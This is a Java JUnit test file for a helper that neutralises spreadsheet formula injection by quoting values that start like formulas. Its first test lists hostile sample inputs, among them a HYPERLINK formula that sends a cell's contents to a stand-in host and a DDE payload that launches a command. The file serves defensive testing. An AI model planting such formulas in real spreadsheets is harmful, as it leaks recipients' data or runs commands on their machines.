package vn.chibo.common;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

class SpreadsheetTextTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")", "+cmd|' /C calc'!A0", "-2+3",
        "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uFF1D1+1"})
    void valuesThatStartLikeAFormulaComeOutAsText(String value) {
        assertEquals("'" + value, SpreadsheetText.neutralise(value));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Lò Văn Pản", "a=b", " =not first", "-12", "+3.5", "-0,75", "2026-11-05", "'quoted"})
    void ordinaryTextAndPlainNumbersAreLeftAlone(String value) {
        assertEquals(value, SpreadsheetText.neutralise(value));
    }

    @Test
    void nothingStaysNothing() {
        assertNull(SpreadsheetText.neutralise(null));
        assertEquals("", SpreadsheetText.neutralise(""));
    }
}
